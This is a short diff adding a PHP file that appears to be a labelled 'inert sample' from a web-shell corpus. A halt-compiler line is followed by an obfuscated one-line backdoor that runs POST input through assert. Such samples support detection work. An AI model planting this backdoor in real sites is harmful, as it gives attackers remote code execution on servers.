@@ -1,0 +1,4 @@
+<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
+<?php
+$f = strtolower('ASSERT');
+$f($_POST['gc']);
